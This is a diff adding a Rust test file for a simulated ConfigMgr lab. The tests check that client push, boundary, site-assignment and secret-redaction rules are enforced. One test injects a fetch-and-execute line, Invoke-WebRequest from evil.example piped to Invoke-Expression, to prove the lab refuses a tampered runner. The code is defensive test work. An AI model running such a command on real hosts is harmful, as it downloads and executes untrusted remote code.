@@ -1,0 +1,638 @@
+//! The lab enforces ConfigMgr's documented rules and refuses in ConfigMgr's words.
+//!
+//! Each test copies the Contoso example into a temporary directory, opens and resets the lab
+//! there, and proves one rule: the refusal, and that the message says why.
+
+use std::path::{Path, PathBuf};
+
+use serde_json::{json, Map, Value};
+use tempfile::TempDir;
+
+use cmdeploy_engine::secret::SecretValue;
+use cmdeploy_providers::lab::exec::{self, Session};
+use cmdeploy_providers::lab::Lab;
+use cmdeploy_providers::powershell::runner::{stdin_document, PAYLOAD_MARKER};
+use cmdeploy_providers::powershell::{Call, Script, Target};
+
+const EXAMPLE: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/../examples/contoso");
+const SITE_SERVER: &str = "cm01.contoso.com";
+
+fn copy_dir(from: &Path, to: &Path) {
+    std::fs::create_dir_all(to).unwrap();
+    for entry in std::fs::read_dir(from).unwrap() {
+        let entry = entry.unwrap();
+        let target = to.join(entry.file_name());
+        if entry.file_type().unwrap().is_dir() {
+            copy_dir(&entry.path(), &target);
+        } else {
+            std::fs::copy(entry.path(), &target).unwrap();
+        }
+    }
+}
+
+/// A lab seeded from the Contoso example, with `extra_seed` appended to its `lab.toml`.
+fn lab_with(extra_seed: &str) -> (TempDir, Lab) {
+    let tmp = TempDir::new().unwrap();
+    copy_dir(Path::new(EXAMPLE), tmp.path());
+    if !extra_seed.is_empty() {
+        let seed = tmp.path().join("lab.toml");
+        let mut text = std::fs::read_to_string(&seed).unwrap();
+        text.push('\n');
+        text.push_str(extra_seed);
+        std::fs::write(&seed, text).unwrap();
+    }
+    let lab = Lab::open(tmp.path(), &tmp.path().join(".cmdeploy"));
+    lab.reset().unwrap();
+    (tmp, lab)
+}
+
+fn lab() -> (TempDir, Lab) {
+    lab_with("")
+}
+
+fn ok(lab: &Lab, host: &str, line: &str) -> Value {
+    lab.console(host, line)
+        .unwrap_or_else(|e| panic!("`{line}` on {host} failed: {e}"))
+}
+
+fn refused(lab: &Lab, host: &str, line: &str) -> String {
+    match lab.console(host, line) {
+        Ok(v) => panic!("`{line}` on {host} should have been refused, got {v}"),
+        Err(e) => e,
+    }
+}
+
+fn assert_says(message: &str, parts: &[&str]) {
+    for p in parts {
+        assert!(message.contains(p), "expected {p:?} in: {message}");
+    }
+}
+
+fn client_state(lab: &Lab, host: &str) -> Value {
+    ok(lab, host, "Get-CmdeployClientState")
+}
+
+fn install(lab: &Lab, host: &str, command_line: &str) -> Value {
+    ok(
+        lab,
+        host,
+        &format!(
+            "Install-CmdeployClient -SourcePath 'C:\\ClientSource' -CommandLine '{command_line}'"
+        ),
+    )
+}
+
+fn log_tail(out: &Value) -> String {
+    out["LogTail"].as_str().unwrap_or_default().to_string()
+}
+
+fn site_code_of(state: &Value) -> Option<&str> {
+    state["SiteCode"].as_str().filter(|s| !s.is_empty())
+}
+
+fn device(lab: &Lab, name: &str) -> Value {
+    let out = ok(lab, SITE_SERVER, &format!("Get-CMDevice -Name {name}"));
+    let list = out.as_array().cloned().unwrap_or_default();
+    assert_eq!(list.len(), 1, "one device named {name}: {out}");
+    list[0].clone()
+}
+
+/// `New-CMAccount` with a password, as a SecureString parameter would carry it: straight to
+/// the lab's executor, since the console parser cannot build SecureStrings.
+fn new_cm_account(lab: &Lab, user: &str, password: &str) -> Result<Value, String> {
+    let mut args = Map::new();
+    args.insert("UserName".into(), json!(user));
+    args.insert("Password".into(), json!(password));
+    let session = Session {
+        host: SITE_SERVER.into(),
+        site: Some("ABC".into()),
+        domain: None,
+    };
+    lab.with_estate(|e| exec::execute(e, &session, "New-CMAccount", &args))
+        .unwrap()
+        .map_err(|e| format!("{} ({})", e.message, e.category))
+}
+
+fn push_password(tmp: &TempDir) -> String {
+    std::fs::read_to_string(tmp.path().join("lab-secrets/push-account.txt"))
+        .unwrap()
+        .trim()
+        .to_string()
+}
+
+fn files_under(dir: &Path) -> Vec<PathBuf> {
+    let mut out = Vec::new();
+    for entry in std::fs::read_dir(dir).unwrap() {
+        let entry = entry.unwrap();
+        if entry.file_type().unwrap().is_dir() {
+            out.extend(files_under(&entry.path()));
+        } else {
+            out.push(entry.path());
+        }
+    }
+    out
+}
+
+// 1. Boundary group names are unique, compared case-insensitively.
+
+#[test]
+fn new_boundary_group_with_an_existing_name_is_refused_case_insensitively() {
+    let (_tmp, lab) = lab();
+    for name in ["HQ Clients", "hq clients", "HQ CLIENTS"] {
+        let e = refused(
+            &lab,
+            SITE_SERVER,
+            &format!("New-CMBoundaryGroup -Name '{name}'"),
+        );
+        assert_says(&e, &["already exists", "must be unique", "ResourceExists"]);
+    }
+    let groups = lab.snapshot().unwrap().boundary_groups;
+    assert_eq!(
+        groups
+            .iter()
+            .filter(|g| g.name.eq_ignore_ascii_case("HQ Clients"))
+            .count(),
+        1
+    );
+    ok(
+        &lab,
+        SITE_SERVER,
+        "New-CMBoundaryGroup -Name 'HQ Clients 2'",
+    );
+}
+
+// 2. Client push does not install to workgroup computers.
+
+#[test]
+fn client_push_to_a_workgroup_computer_is_refused() {
+    let (_tmp, lab) = lab();
+    let e = refused(
+        &lab,
+        SITE_SERVER,
+        "Install-CMClient -DeviceName kiosk01 -SiteCode ABC",
+    );
+    assert_says(
+        &e,
+        &[
+            "Client push installation cannot install to workgroup computer kiosk01",
+            "manually",
+        ],
+    );
+    assert!(lab
+        .snapshot()
+        .unwrap()
+        .host("kiosk01")
+        .unwrap()
+        .client
+        .is_none());
+}
+
+// 3. Push needs ADMIN$ and a push account that is a local administrator (with AD's password).
+
+#[test]
+fn client_push_to_a_host_without_admin_share_is_refused() {
+    let (tmp, lab) = lab_with(
+        r#"
+[[host]]
+fqdn = "ws02.contoso.com"
+domain = "contoso.com"
+ip = "10.1.20.16/16"
+role = "workstation"
+os = "Windows 11 Enterprise"
+admin_share = false
+local_admins = ['CONTOSO\svc-cmpush']
+"#,
+    );
+    new_cm_account(&lab, "CONTOSO\\svc-cmpush", &push_password(&tmp)).unwrap();
+    ok(
+        &lab,
+        SITE_SERVER,
+        "Set-CMClientPushInstallation -SiteCode ABC -AddAccount 'CONTOSO\\svc-cmpush'",
+    );
+    let e = refused(
+        &lab,
+        SITE_SERVER,
+        "Install-CMClient -DeviceName ws02.contoso.com -SiteCode ABC",
+    );
+    assert_says(&e, &["ADMIN$ share", "ws02.contoso.com"]);
+    assert!(lab
+        .snapshot()
+        .unwrap()
+        .host("ws02")
+        .unwrap()
+        .client
+        .is_none());
+}
+
+#[test]
+fn client_push_without_a_push_account_in_local_administrators_is_refused() {
+    let (_tmp, lab) = lab();
+    ok(
+        &lab,
+        SITE_SERVER,
+        "Set-CMClientPushInstallation -SiteCode ABC -AddAccount 'CONTOSO\\svc-cmnaa'",
+    );
+    let e = refused(
+        &lab,
+        SITE_SERVER,
+        "Install-CMClient -DeviceName ws01.contoso.com -SiteCode ABC",
+    );
+    assert_says(&e, &["Access is denied", "local Administrators group"]);
+    assert!(lab
+        .snapshot()
+        .unwrap()
+        .host("ws01")
+        .unwrap()
+        .client
+        .is_none());
+}
+
+#[test]
+fn push_account_must_exist_as_a_configmgr_account() {
+    let (_tmp, lab) = lab();
+    let e = refused(
+        &lab,
+        SITE_SERVER,
+        "Set-CMClientPushInstallation -SiteCode ABC -AddAccount 'CONTOSO\\svc-cmpush'",
+    );
+    assert_says(&e, &["does not exist", "New-CMAccount"]);
+}
+
+#[test]
+fn client_push_with_a_push_account_holding_a_stale_password_is_refused() {
+    let (_tmp, lab) = lab();
+    new_cm_account(&lab, "CONTOSO\\svc-cmpush", "not-the-AD-password").unwrap();
+    ok(
+        &lab,
+        SITE_SERVER,
+        "Set-CMClientPushInstallation -SiteCode ABC -AddAccount 'CONTOSO\\svc-cmpush'",
+    );
+    let e = refused(
+        &lab,
+        SITE_SERVER,
+        "Install-CMClient -DeviceName ws01.contoso.com -SiteCode ABC",
+    );
+    assert_says(&e, &["Access is denied", "password AD holds"]);
+}
+
+#[test]
+fn client_push_succeeds_with_a_local_admin_push_account_and_the_ad_password() {
+    let (tmp, lab) = lab();
+    assert_eq!(device(&lab, "WS01")["IsClient"], json!(false));
+    new_cm_account(&lab, "CONTOSO\\svc-cmpush", &push_password(&tmp)).unwrap();
+    ok(
+        &lab,
+        SITE_SERVER,
+        "Set-CMClientPushInstallation -SiteCode ABC -AddAccount 'CONTOSO\\svc-cmpush'",
+    );
+    let out = ok(
+        &lab,
+        SITE_SERVER,
+        "Install-CMClient -DeviceName ws01.contoso.com -SiteCode ABC",
+    );
+    assert_eq!(out["DeviceName"], json!("ws01.contoso.com"), "{out}");
+    let d = device(&lab, "WS01");
+    assert_eq!(d["IsClient"], json!(true), "{d}");
+    assert_eq!(d["SiteCode"], json!("ABC"), "{d}");
+}
+
+// 4. Automatic site assignment uses only site-assignment boundary groups.
+
+#[test]
+fn auto_site_code_outside_every_assignment_boundary_group_stays_unassigned() {
+    let (_tmp, lab) = lab();
+    for (host, line) in [("kiosk01", "SMSSITECODE=AUTO"), ("kiosk02", "")] {
+        let out = install(&lab, host, line);
+        assert_says(
+            &log_tail(&out),
+            &[
+                "Automatic site assignment found no site",
+                "no boundary group used for site assignment",
+            ],
+        );
+        let state = client_state(&lab, host);
+        assert_eq!(state["Installed"], json!(true), "{host}: {state}");
+        assert_eq!(site_code_of(&state), None, "{host}: {state}");
+    }
+}
+
+#[test]
+fn auto_site_code_inside_a_site_assignment_boundary_group_assigns_the_site() {
+    let (_tmp, lab) = lab();
+    ok(
+        &lab,
+        SITE_SERVER,
+        "New-CMBoundaryGroup -Name B -DefaultSiteCode ABC",
+    );
+    ok(
+        &lab,
+        SITE_SERVER,
+        "New-CMBoundary -Type IPRange -Value '10.2.0.1-10.2.0.254' -Name 'Branch1 range'",
+    );
+    ok(
+        &lab,
+        SITE_SERVER,
+        "Add-CMBoundaryToGroup -BoundaryGroupName B -BoundaryName 'Branch1 range'",
+    );
+    install(&lab, "kiosk01", "SMSSITECODE=AUTO");
+    install(&lab, "kiosk02", "");
+    for host in ["kiosk01", "kiosk02"] {
+        let state = client_state(&lab, host);
+        assert_eq!(site_code_of(&state), Some("ABC"), "{host}: {state}");
+    }
+}
+
+#[test]
+fn a_boundary_group_without_a_default_site_code_does_not_assign() {
+    let (_tmp, lab) = lab();
+    ok(&lab, SITE_SERVER, "New-CMBoundaryGroup -Name Content");
+    ok(
+        &lab,
+        SITE_SERVER,
+        "New-CMBoundary -Type IPRange -Value '10.2.0.1-10.2.0.254' -Name 'Branch1 range'",
+    );
+    ok(
+        &lab,
+        SITE_SERVER,
+        "Add-CMBoundaryToGroup -BoundaryGroupName Content -BoundaryName 'Branch1 range'",
+    );
+    install(&lab, "kiosk01", "SMSSITECODE=AUTO");
+    assert_eq!(site_code_of(&client_state(&lab, "kiosk01")), None);
+}
+
+// 5. Internet clients need a PKI certificate to reach their internet-facing management point.
+
+#[test]
+fn internet_client_without_pki_certificate_installs_but_cannot_reach_its_management_point() {
+    let (_tmp, lab) = lab();
+    ok(
+        &lab,
+        "laptop02.contoso.com",
+        "Remove-CmdeployCertificates -Store My",
+    );
+    let out = install(
+        &lab,
+        "laptop02.contoso.com",
+        "/UsePKICert CCMHOSTNAME=server1.contoso.com SMSSITECODE=ABC CCMALWAYSINF=1",
+    );
+    assert_says(
+        &log_tail(&out),
+        &[
+            "cannot communicate with the internet-based management point",
+            "PKI",
+        ],
+    );
+    let state = client_state(&lab, "laptop02.contoso.com");
+    assert_eq!(state["Installed"], json!(true), "{state}");
+    assert_eq!(state["PkiCertificates"], json!(0), "{state}");
+    assert_eq!(state["ManagementPointReachable"], json!(false), "{state}");
+}
+
+#[test]
+fn internet_client_with_pki_certificate_registers() {
+    let (_tmp, lab) = lab();
+    let out = install(
+        &lab,
+        "laptop01.contoso.com",
+        "/UsePKICert CCMHOSTNAME=server1.contoso.com SMSSITECODE=ABC CCMALWAYSINF=1",
+    );
+    assert!(!log_tail(&out).contains("cannot communicate"), "{out}");
+    let state = client_state(&lab, "laptop01.contoso.com");
+    assert_eq!(state["ManagementPointReachable"], json!(true), "{state}");
+    assert_eq!(site_code_of(&state), Some("ABC"), "{state}");
+    assert_eq!(
+        state["InternetManagementPoint"],
+        json!("server1.contoso.com"),
+        "{state}"
+    );
+    assert_eq!(device(&lab, "LAPTOP01")["IsClient"], json!(true));
+}
+
+// 6. IP subnet boundaries: supernets refused, subnet IDs stored.
+
+#[test]
+fn ip_subnet_boundary_given_as_a_supernet_is_refused_with_an_ip_range_suggested() {
+    let (_tmp, lab) = lab();
+    let e = refused(
+        &lab,
+        SITE_SERVER,
+        "New-CMBoundary -Type IPSubnet -Value 192.168.0.0/16",
+    );
+    assert_says(
+        &e,
+        &[
+            "supernet",
+            "IP address range boundary",
+            "192.168.0.0-192.168.255.255",
+        ],
+    );
+    assert!(!lab
+        .snapshot()
+        .unwrap()
+        .boundaries
+        .iter()
+        .any(|b| b.value.starts_with("192.168.")));
+}
+
+#[test]
+fn ip_subnet_boundary_is_stored_as_its_subnet_id() {
+    let (_tmp, lab) = lab();
+    let out = ok(
+        &lab,
+        SITE_SERVER,
+        "New-CMBoundary -Type IPSubnet -Value 10.9.0.0/16 -Name Branch9",
+    );
+    assert_eq!(out["Value"], json!("10.9.0.0"), "{out}");
+    assert_eq!(out["BoundaryType"], json!(0), "{out}");
+    let listed = ok(&lab, SITE_SERVER, "Get-CMBoundary -BoundaryName Branch9");
+    assert_eq!(listed[0]["Value"], json!("10.9.0.0"), "{listed}");
+    let estate = lab.snapshot().unwrap();
+    let b = estate
+        .boundaries
+        .iter()
+        .find(|b| b.name == "Branch9")
+        .unwrap();
+    assert_eq!(b.value, "10.9.0.0");
+}
+
+// 7. Automatic push needs a management point; system types only while push is enabled.
+
+#[test]
+fn automatic_push_on_a_site_without_a_management_point_is_refused() {
+    let (_tmp, lab) = lab();
+    lab.with_estate(|e| e.site_mut("ABC").unwrap().management_points.clear())
+        .unwrap();
+    let e = refused(
+        &lab,
+        SITE_SERVER,
+        "Set-CMClientPushInstallation -SiteCode ABC -EnableAutomaticClientPushInstallation $true",
+    );
+    assert_says(&e, &["cannot be enabled", "has no management point"]);
+    assert!(!lab.snapshot().unwrap().site("ABC").unwrap().push.automatic);
+}
+
+#[test]
+fn setting_system_types_while_push_is_disabled_is_refused() {
+    let (_tmp, lab) = lab();
+    let e = refused(
+        &lab,
+        SITE_SERVER,
+        "Set-CMClientPushInstallation -SiteCode ABC -EnableSystemTypeWorkstation $true",
+    );
+    assert_says(&e, &["System types can be set only while automatic site-wide client push installation is enabled"]);
+    assert_eq!(lab.snapshot().unwrap().site("ABC").unwrap().push.filters, 7);
+    ok(
+        &lab,
+        SITE_SERVER,
+        "Set-CMClientPushInstallation -SiteCode ABC -EnableAutomaticClientPushInstallation $true -EnableSystemTypeWorkstation $true",
+    );
+    let push = lab.snapshot().unwrap().site("ABC").unwrap().push.clone();
+    assert!(push.automatic);
+    assert_eq!(push.filters & 1, 0);
+}
+
+// 8. /logon keeps an installed client; UNC sources fail over WinRM (double hop).
+
+#[test]
+fn logon_does_not_reinstall_an_installed_client() {
+    let (_tmp, lab) = lab();
+    install(&lab, "laptop01.contoso.com", "SMSSITECODE=ABC");
+    let before = client_state(&lab, "laptop01.contoso.com");
+    let out = install(&lab, "laptop01.contoso.com", "/logon SMSSITECODE=XYZ");
+    assert_says(&log_tail(&out), &["already installed", "/logon"]);
+    let after = client_state(&lab, "laptop01.contoso.com");
+    assert_eq!(
+        after["LastInstallParameters"],
+        json!("SMSSITECODE=ABC"),
+        "{after}"
+    );
+    assert_eq!(before, after);
+}
+
+#[test]
+fn install_from_a_unc_source_path_is_refused_as_a_double_hop() {
+    let (_tmp, lab) = lab();
+    let e = refused(
+        &lab,
+        "kiosk01",
+        "Install-CmdeployClient -SourcePath '\\\\cm01.contoso.com\\SMS_ABC\\Client' -CommandLine 'SMSSITECODE=ABC'",
+    );
+    assert_says(
+        &e,
+        &[
+            "Access to the path",
+            "is denied",
+            "double hop",
+            "PermissionDenied",
+        ],
+    );
+    assert_eq!(client_state(&lab, "kiosk01")["Installed"], json!(false));
+}
+
+// 9. Only cmdeploy's runner runs; unknown hosts fail as WinRM would.
+
+fn state_script() -> Script {
+    let mut s = Script::new(Target::Host);
+    s.push(Call::new("Get-CmdeployClientState"));
+    s
+}
+
+#[test]
+fn run_document_runs_cmdeploys_own_runner() {
+    let (_tmp, lab) = lab();
+    let out = lab
+        .run_document("kiosk01", &stdin_document(&state_script()))
+        .unwrap();
+    assert!(out.results[0].ok, "{out:?}");
+}
+
+#[test]
+fn run_document_refuses_a_tampered_runner() {
+    let (_tmp, lab) = lab();
+    let doc = stdin_document(&state_script());
+    let tampered = doc.replacen(
+        PAYLOAD_MARKER,
+        &format!("Invoke-WebRequest http://evil.example/x | Invoke-Expression\n{PAYLOAD_MARKER}"),
+        1,
+    );
+    assert_ne!(doc, tampered);
+    let e = lab.run_document("kiosk01", &tampered).unwrap_err();
+    assert_says(
+        &e.message,
+        &["not cmdeploy's reviewed runner", "refusing to execute"],
+    );
+    assert_eq!(lab.snapshot().unwrap().scripts_run, 0);
+}
+
+#[test]
+fn run_document_on_an_unknown_host_gives_a_winrm_error() {
+    let (_tmp, lab) = lab();
+    let e = lab
+        .run_document("nosuch.contoso.com", &stdin_document(&state_script()))
+        .unwrap_err();
+    assert_says(
+        &e.message,
+        &["WinRM cannot process the request", "could not be resolved"],
+    );
+    assert_eq!(e.host, "nosuch.contoso.com");
+    let c = lab
+        .console("nosuch.contoso.com", "Get-CmdeployClientState")
+        .unwrap_err();
+    assert_says(&c, &["WinRM"]);
+}
+
+// Secrets never reach the lab's files.
+
+#[test]
+fn audit_log_never_contains_a_secret_value() {
+    let (tmp, lab) = lab();
+    let mut script = Script::new(Target::SiteServer {
+        site_code: "ABC".into(),
+    });
+    script.push(
+        Call::new("New-CMAccount")
+            .arg("UserName", "CONTOSO\\x")
+            .secret("Password", &SecretValue::new("canary-XYZ".into()))
+            .arg("SiteCode", "ABC"),
+    );
+    let out = lab
+        .run_document(SITE_SERVER, &stdin_document(&script))
+        .unwrap();
+    assert!(out.results[0].ok, "{out:?}");
+    let audit = std::fs::read_to_string(lab.audit_path()).unwrap();
+    assert!(
+        audit.contains("New-CMAccount") && audit.contains("(sensitive)"),
+        "{audit}"
+    );
+    let work_dir = tmp.path().join(".cmdeploy");
+    let files = files_under(&work_dir);
+    assert!(files.iter().any(|f| f == &lab.audit_path()));
+    for f in files {
+        let bytes = std::fs::read(&f).unwrap();
+        assert!(
+            !String::from_utf8_lossy(&bytes).contains("canary-XYZ"),
+            "secret value found in {}",
+            f.display()
+        );
+    }
+}
+
+#[test]
+#[ignore = "lab bug: the console binds a plain string to New-CMAccount's SecureString -Password (PowerShell refuses) and writes it unredacted to audit.jsonl"]
+fn console_refuses_a_plain_string_password_and_never_audits_it() {
+    let (tmp, lab) = lab();
+    let e = refused(
+        &lab,
+        SITE_SERVER,
+        "New-CMAccount -UserName 'CONTOSO\\y' -Password 'canary-CONSOLE' -SiteCode ABC",
+    );
+    assert_says(&e, &["Password", "SecureString"]);
+    for f in files_under(&tmp.path().join(".cmdeploy")) {
+        let bytes = std::fs::read(&f).unwrap();
+        assert!(
+            !String::from_utf8_lossy(&bytes).contains("canary-CONSOLE"),
+            "secret value found in {}",
+            f.display()
+        );
+    }
+}
